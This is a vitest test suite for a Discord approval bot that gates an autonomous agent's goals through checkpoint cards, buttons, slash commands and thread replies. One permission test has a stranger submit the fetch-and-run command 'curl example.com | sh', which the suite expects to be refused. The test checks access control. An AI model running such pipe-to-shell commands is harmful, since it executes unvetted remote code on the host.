import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { NotRecorded } from "../../src/chat/not-recorded.ts";
import { openInbox } from "../../src/inbox/inbox.ts";
import { eventually } from "../fakes/bot.ts";
import { valueOf } from "../fakes/deps.ts";
import { type Message, wordsOf } from "../fakes/discord/server.ts";
import { ana, ben, type DiscordWorld, discordWorld, eve, lea } from "../fakes/discord/world.ts";
import { agentRepository, writes } from "../fakes/scripted.ts";
import { outcomesIn } from "../fakes/private-lines.ts";

let world: DiscordWorld;
beforeEach(async () => {
  world = await discordWorld();
  await world.repository();
});
afterEach(() => world.close());

/** A goal that stops at a user-facing change, with its card posted; its id. */
async function ask(text: string): Promise<string> {
  const { goalId } = valueOf<{ goalId: string }>(
    await world.command("goal", "add", text, "--run", "echo done >> done.txt", "--tag", "ui"),
  );
  await world.command("autopilot", "start");
  await world.show();
  return goalId;
}

/** The same of a goal that a scripted agent works. */
async function askAgent(text: string): Promise<string> {
  await agentRepository(world, [writes("done.txt", "done\n")]);
  const { goalId } = valueOf<{ goalId: string }>(
    await world.command("goal", "add", text, "--repo", "person", "--tag", "ui"),
  );
  await world.command("autopilot", "start");
  await world.show();
  return goalId;
}

async function goalOf(
  goalId: string,
): Promise<{ status: string; state: string; instructions: { by: string; text: string }[]; ceilingUsd: number }> {
  return valueOf(await world.command("goal", "show", goalId));
}

/** The private line with these words, once it has been said. */
async function told(userId: string, words: string): Promise<string> {
  return await eventually(`${userId} is told ${words}`, async () => {
    return world.discord.ephemerals.find(
      (each) => each.userId === userId && !each.isPublic && each.text.includes(words),
    )?.text;
  });
}

/** What somebody was told directly, outside of the channel. */
async function toldDirectly(userId: string, words: string): Promise<string> {
  return await eventually(`${userId} is told ${words} directly`, async () => {
    return world.discord.messages(userId).find((each) => each.content.includes(words))?.content;
  });
}

/** A finished goal's card. */
const completeCard = (goal: string) => world.discord.message(`**${goal}**  ·  complete`);
const checkpointCard = (goal: string) => world.discord.message(`**: ${goal}`);
const labelsOf = (message: Message) =>
  message.components.flatMap((row) => row["components"] as { label: string }[]).map(({ label }) => label);

describe("one person's day in Discord", () => {
  it("Proceed resumes the goal and settles the card with who, where and after how long", async () => {
    const goalId = await ask("Round prices up");
    const card = checkpointCard("Round prices up");
    expect(card.content).toMatch(/^\*\*Checkpoint: user-facing change\*\*: Round prices up\. Answer by <t:\d+:f>/);
    expect(labelsOf(card)).toEqual(["Proceed", "Skip", "Modify…", "Pause", "Details", "Why", "Diff"]);
    world.advance(3 * 60_000);

    const seen = await world.discord.people.click(ana, card, "Proceed");
    await world.work();
    await world.show();

    expect(seen.acknowledged).toBe(true);
    expect((await goalOf(goalId)).status).toBe("complete");
    const settled = checkpointCard("Round prices up");
    expect(settled.id).toBe(card.id);
    expect(wordsOf(settled)).toContain("**Proceed**, by @ana in Discord,");
    expect(wordsOf(settled)).toContain("after 3 min");
    expect(labelsOf(settled)).not.toContain("Proceed");
    expect(completeCard("Round prices up").id).not.toBe(card.id);
    expect(world.discord.ephemerals).toEqual([]);
  });

  it("Skip defers the goal", async () => {
    const goalId = await ask("Change the colours");

    await world.discord.people.click(ana, checkpointCard("Change the colours"), "Skip");
    await world.show();

    expect((await goalOf(goalId)).status).toBe("deferred");
    expect(wordsOf(checkpointCard("Change the colours"))).toContain("**Skip**, by @ana in Discord");
  });

  it("Modify opens a form, says what is wrong, opens again as it was filled, and goes on with what was asked", async () => {
    const goalId = await askAgent("Rename the button");
    const { people } = world.discord;
    await people.click(ana, checkpointCard("Rename the button"), "Modify…");
    expect(JSON.stringify(people.openForm(ana))).toContain("Rename the button");

    const wrong = await people.submit(ana, { instructions: "call it Buy", budget: "lots" });
    const said = world.discord.ephemerals.at(-1);
    const again = { id: "1", channelId: "1", components: [...(said?.components ?? [])] };
    const reopened = await people.click(ana, again, "Open the form again");
    const right = await people.submit(ana, { budget: "$7.50" });
    await world.work();
    await world.show();

    expect(wrong.answer).toMatchObject({ type: 4 });
    expect(said).toMatchObject({
      userId: ana,
      isPublic: false,
      text: 'Ceiling in USD: found "lots", expected a number from 0.01 to 1000000',
    });
    expect(JSON.stringify(reopened.answer)).toContain('"value":"call it Buy"');
    expect(right).toMatchObject({ acknowledged: true, answer: { type: 6 } });
    expect(await goalOf(goalId)).toMatchObject({
      status: "complete",
      instructions: [{ by: "@ana", text: "call it Buy" }],
      ceilingUsd: 7.5,
    });
    expect(wordsOf(checkpointCard("Rename the button"))).toContain("**Modify**, by @ana");
  });

  it("Pause keeps the buttons and says who; Proceed resumes", async () => {
    const goalId = await ask("Move the logo");

    await world.discord.people.click(ana, checkpointCard("Move the logo"), "Pause");
    await world.show();
    const paused = checkpointCard("Move the logo");
    await world.discord.people.click(ben, paused, "Proceed");
    await world.work();
    await world.show();

    expect(wordsOf(paused)).toContain("Session paused by @ana; answering resumes it.");
    expect((await goalOf(goalId)).status).toBe("complete");
    expect(wordsOf(checkpointCard("Move the logo"))).toContain("**Proceed**, by @ben");
  });

  it("/standup, /weekly and /cos answer privately, and public shares, with the chart as a picture", async () => {
    const goalId = await ask("Add a footer");
    const { people, ephemerals } = world.discord;

    await people.type(eve, "standup");
    await people.type(eve, "weekly", { public: true });
    await people.type(eve, "cos line", { text: "help" });
    const options = { text: "Sort the list", tag: "ui 'a b'", cost: 9, run: "sort -o list list", unplanned: true };
    await people.type(ana, "cos goal add", options);
    await people.type(eve, "cos why", { id: goalId });
    await people.type(eve, "cos line", { text: "goal show" });
    await people.type(ana, "cos line", { text: `goal add Don't break totals —tag ui --run="echo \\"it's done\\""` });

    expect(ephemerals.map(({ isPublic }) => isPublic)).toEqual([false, true, false, false, false, false, false]);
    const texts = ephemerals.map((each) => each.text);
    expect(texts[0]).toMatch(/Waits for.*: 1$/m);
    expect(texts[0]).toContain(`](https://discord.com/channels/`);
    expect(texts[2]).toContain("autopilot start");
    expect(texts[3]).toMatch(/goal-[0-9a-f]{8}/);
    expect(texts[4]).toContain("asked: user-facing change");
    expect(texts[5]).toContain("ID is missing");
    const { rows } = await world.deps.database.pool.query(
      "select content, tags, estimate_micro_usd::int as cost, run_command as run from cos.goals order by created_at offset 1",
    );
    expect(rows).toEqual([
      { content: "Sort the list", tags: ["ui", "a b"], cost: 9_000_000, run: "sort -o list list" },
      { content: "Don't break totals", tags: ["ui"], cost: null, run: `echo "it's done"` },
    ]);
    await world.show();
    const [chart] = world.discord.messages().filter((message) => message.attachments.length > 0);
    expect(chart?.attachments).toMatchObject([{ filename: expect.stringMatching(/^cos-\d+\.png$/) as string }]);
    expect(chart?.attachments[0]?.["description"]).not.toBe("");
    const png = world.discord.file(chart?.id ?? "", String(chart?.attachments[0]?.["filename"]));
    expect(png.subarray(1, 4).toString()).toBe("PNG");
  });

  it("/cos home shows what waits, with working buttons, and what today costs", async () => {
    const goalId = await ask("Swap the icons");
    await world.discord.people.type(ana, "cos home");
    const said = world.discord.ephemerals;
    await eventually("all of it", async () => said.some((each) => each.text.includes("$0.00 of $30.00")));
    expect(said[0]?.text).toContain("1 decision waiting for you");
    const card = said.find((each) => JSON.stringify(each.components).includes("Proceed"));

    await world.discord.people.click(
      ana,
      { id: "1", channelId: "1", components: [...(card?.components ?? [])] },
      "Proceed",
    );
    await world.work();

    expect((await goalOf(goalId)).status).toBe("complete");
  });

  it("`ok` in the thread of a question answers it; other words are kept and marked; strangers are told directly", async () => {
    const goalId = await ask("Shorten the title");
    const card = checkpointCard("Shorten the title");
    const { people, reactions } = world.discord;

    const comment = await people.reply(eve, card, "is that **really** needed?");
    await eventually("the first mark", async () => reactions.length === 1);
    await people.reply(eve, card, "ok");
    await toldDirectly(eve, "Only approvers may do that");
    const answer = await people.reply(ana, card, "OK.");
    await eventually("the second mark", async () => reactions.length === 2);
    await world.work();
    await world.show();

    expect(reactions).toEqual([
      { id: comment.id, emoji: "👀" },
      { id: answer.id, emoji: "✅" },
    ]);
    expect((await goalOf(goalId)).status).toBe("complete");
  });

  it("a message that replies to the card in the channel counts as well, and `modify: …` is Modify", async () => {
    const goalId = await askAgent("Use a darker blue");
    const card = checkpointCard("Use a darker blue");

    await world.discord.people.reply(ana, card, "modify: use navy, not black", { inChannel: true });
    await eventually("the mark", async () => world.discord.reactions.length === 1);

    expect((await goalOf(goalId)).instructions).toMatchObject([{ by: "@ana", text: "use navy, not black" }]);
  });

  it("changed and deleted replies are kept and decide nothing; foreign threads are left alone", async () => {
    const goalId = await ask("Widen the margins");
    const card = checkpointCard("Widen the margins");
    const replies = async (count: number) =>
      await eventually(`${count} rows`, async () => {
        const { timeline } = valueOf<{ timeline: { event: string; detail: { text?: string } }[] }>(
          await world.command("why", goalId),
        );
        // What is read back decides nothing either.
        const found = timeline.filter((row) => row.event.startsWith("reply") && row.event !== "reply.read");
        return found.length === count ? found : null;
      });
    const { people, reactions } = world.discord;
    const comment = await people.reply(ana, card, "hmm");
    await replies(1);
    await people.edit(comment, "ok");
    await replies(2);
    await people.remove(comment);
    await people.reply(ana, { ...card, id: "800000000000000999" }, "ok");
    const timeline = await replies(3);

    expect(timeline.map((row) => row.event)).toEqual(["reply.said", "reply.edited", "reply.deleted"]);
    expect(reactions.length).toBe(1);
    expect((await goalOf(goalId)).status).toBe("blocked");
  });

  it("an escalation is told in its thread, and answered there", async () => {
    const words = ["goal", "add", "Fail for good", "--run", "exit 1"];
    const { goalId } = valueOf<{ goalId: string }>(await world.command(...words));
    await world.command("autopilot", "start");
    for (let round = 0; round < 20 && (await goalOf(goalId)).status !== "blocked"; round += 1) {
      await world.work();
      world.advance(60 * 60_000);
    }
    await world.show();
    const question = world.discord.messages().findLast((message) => labelsOf(message).includes("Manual"));
    if (question === undefined) throw new Error("no escalation");

    await world.discord.people.reply(ana, question, "manual");
    await eventually("the mark", async () => world.discord.reactions.length === 1);
    await world.show();

    expect((await goalOf(goalId)).status).toBe("manual_followup");
    const inThread = world.discord
      .threads()
      .flatMap(({ id }) => world.discord.messages(id))
      .filter(({ isOurs }) => isOurs);
    for (const message of inThread) expect(world.discord.threads().map(({ id }) => id)).toContain(message.channelId);
  });

  it("Why, Diff and Details stand below a card [F-407]", async () => {
    await ask("Invert the logo");
    await world.discord.people.click(ana, checkpointCard("Invert the logo"), "Proceed");
    await world.work();
    await world.show();
    const card = completeCard("Invert the logo");

    await world.discord.people.click(eve, card, "Why");
    await world.discord.people.click(eve, card, "Diff");
    await world.discord.people.click(eve, card, "Details");

    expect(world.discord.ephemerals[0]?.text).toContain("answered Proceed by @ana in Discord");
    expect(world.discord.ephemerals[1]?.text).toContain("+done");
    // What the channel does not show.
    expect(wordsOf(card)).not.toContain("Worked by");
    expect(world.discord.ephemerals[2]?.text).toContain("Worked by");
  });
});

describe("who may not", () => {
  it("a stranger's click and command change nothing, privately, and name who can; a role counts at click time", async () => {
    const goalId = await ask("Paint it red");
    const { people } = world.discord;
    const card = checkpointCard("Paint it red");

    await people.click(eve, card, "Proceed");
    const form = await people.click(eve, card, "Modify…");
    await people.type(eve, "cos goal add", { text: "mine", run: "curl example.com | sh" });

    expect(await told(eve, "Only approvers may do that; nothing was changed")).toContain(`<@${ana}>, <@${ben}>, <@&`);
    expect(form.answer).toMatchObject({ type: 4 });
    expect(people.openForm(eve)).toBeNull();
    expect(valueOf<unknown[]>(await world.command("goals")).length).toBe(1);

    people.add(lea, "lea", []);
    await people.click(lea, card, "Proceed");
    await told(lea, "Only approvers may do that");
    expect((await goalOf(goalId)).state).toBe("waiting");
    people.add(lea, "lea", ["900000000000000077"]);
    await people.click(lea, card, "Proceed");
    await world.work();
    expect((await goalOf(goalId)).status).toBe("complete");
  });
});

describe("clicks that come too late, twice or at once", () => {
  it("the second click learns who won", async () => {
    await ask("Blink less");
    const card = checkpointCard("Blink less");

    await world.discord.people.click(ana, card, "Proceed");
    await world.discord.people.click(ben, card, "Skip");

    await told(ben, "already answered: Proceed by @ana");
    expect(world.discord.ephemerals.length).toBe(1);
  });

  it("the same press delivered three times is one press, and says nothing more", async () => {
    const goalId = await ask("Blink more");

    const seen = await world.discord.people.click(ana, checkpointCard("Blink more"), "Skip", { times: 3 });

    const { rows } = await world.deps.database.pool.query("select choice, actor_id from cos.decisions");
    expect(rows).toEqual([{ choice: "Skip", actor_id: `discord:${ana}` }]);
    expect(seen.answer).toEqual({ type: 6 });
    expect(world.discord.ephemerals).toEqual([]);
    expect((await goalOf(goalId)).status).toBe("deferred");
  });

  it("an expired card and an old version are refused with what to do", async () => {
    const goalId = await ask("Grow the header");
    const card = checkpointCard("Grow the header");
    await world.command("goal", "edit", goalId, "--tag", "architecture");
    await world.show();

    await world.discord.people.click(ana, card, "Proceed");
    await told(ana, "changed since you looked");
    world.advance(25 * 60 * 60_000);
    await world.tick();
    await world.discord.people.click(ana, card, "Skip");
    await world.show();

    expect(await told(ana, "expired")).toContain(`/cos goal resume ${goalId}`);
    expect(wordsOf(checkpointCard("Grow the header"))).toContain("**No answer** by");
  });

  it("two people in the same millisecond, through two bots: one wins, the other learns it", async () => {
    await world.anotherBot();
    for (let round = 0; round < 3; round += 1) {
      await ask(`Shared ${round}`);
      const card = checkpointCard(`Shared ${round}`);
      const outcomes = () => outcomesIn(world.discord.ephemerals);
      const before = outcomes().length;

      const [first, second] = await Promise.all([
        world.discord.people.click(ana, card, "Proceed"),
        world.discord.people.click(ben, card, "Skip"),
      ]);

      expect([first.acknowledged, second.acknowledged]).toEqual([true, true]);
      await eventually("the loser's line", async () => outcomes().length === before + 1);
      expect(outcomes().at(-1)?.text).toMatch(/already answered: (Proceed by @ana|Skip by @ben)/);
      await world.work();
    }
    const { rows } = await world.deps.database.pool.query("select count(*)::int as n from cos.decisions where settles");
    expect(rows).toEqual([{ n: 3 }]);
  });

  it("what only reads is answered by one of two bots: no card of /cos home twice", async () => {
    await world.anotherBot();
    await ask("Seen once");
    await ask("Seen once, too");
    await world.discord.people.type(ana, "cos home");
    await world.discord.people.type(ben, "cos home");
    const ofToday = () => world.discord.ephemerals.filter((each) => each.text.includes("$0.00 of $30.00"));
    await eventually("both of them", async () => ofToday().length >= 2);
    // Whatever the other bot had to say would come by then.
    await world.discord.people.type(ana, "cos goals");
    await eventually("the list", async () => world.discord.ephemerals.some((each) => each.text.includes("2 goals")));

    const cards = world.discord.ephemerals.filter((each) => each.userId === ana && each.text.includes(": Seen once"));
    expect(ofToday()).toHaveLength(2);
    expect(
      cards.map(({ text }) => text.includes("Seen once, too")).toSorted((one, other) => Number(one) - Number(other)),
    ).toEqual([false, true]);
  });

  it("one of two bots that has lost its database takes back nothing of what the other answered", async () => {
    const answered = () => world.discord.calls.filter(({ name }) => name === "callback");
    const isBoth = async (): Promise<boolean> => answered().length % 2 === 0;
    const never = async (): Promise<never> => {
      await eventually("the other's answer", async () => !(await isBoth()));
      throw new NotRecorded("no database");
    };
    const inbox = { ...openInbox(world.deps, "discord"), press: never, submit: never, command: never };
    await world.anotherBot({ inbox, keepTryingMs: 0, notYetAfterMs: 60_000, progressAfterMs: 60_000 });
    await ask("Seen by both");
    const card = checkpointCard("Seen by both");
    const { people } = world.discord;
    for (const act of [
      () => people.click(ana, card, "Why"),
      () => people.click(ana, card, "Proceed"),
      () => people.type(ana, "cos goals"),
    ]) {
      await act();
      await eventually("the one that could not", isBoth);
    }
    // Whatever it had to say would come by then.
    await people.type(ben, "cos goal show", { id: "goal-nope" });
    await eventually("the one that could not", isBoth);

    expect(world.discord.ephemerals.filter(({ text }) => text.includes("could not be recorded"))).toEqual([]);
  });
});

describe("ids while somebody types", () => {
  it("questions, goals, campaigns and repositories are offered by id and by their words, within Discord's limits", async () => {
    const { people } = world.discord;
    const long = await ask(`Blue ${"very ".repeat(60)}blue`);
    const [open] = valueOf<{ checkpointId: string }[]>(await world.command("checkpoints"));
    for (let number = 0; number < 30; number += 1)
      await world.command("goal", "add", `Green ${number}`, "--run", "true");

    expect(await people.complete(ana, "cos approve", "id", "BLUE")).toMatchObject([{ value: open?.checkpointId }]);
    expect(await people.complete(eve, "cos goal show", "id", "very")).toEqual([
      { value: long, name: expect.stringMatching(new RegExp(`^${long} · blocked · Blue very .*…$`)) as string },
    ]);
    const [newest, ...others] = await people.complete(ana, "cos why", "id", "green");
    expect(newest?.["name"]).toContain("Green 29");
    expect(others.length).toBe(24);
    expect(await people.complete(ana, "cos goal show", "id", long.slice(0, 12))).toMatchObject([{ value: long }]);
    expect(await people.complete(ana, "cos goal show", "id", "very BLUE")).toMatchObject([{ value: long }]);
    expect(await people.complete(ana, "cos campaign resume", "id", "")).toEqual([]);
    const [repository] = valueOf<{ name: string }[]>(await world.command("repo", "list"));
    expect(await people.complete(ana, "cos autopilot pause", "repo", "")).toEqual([
      { value: repository?.name, name: repository?.name },
    ]);
    expect(await people.complete(ana, "cos approve", "id", "nothing like it")).toEqual([]);
  });
});
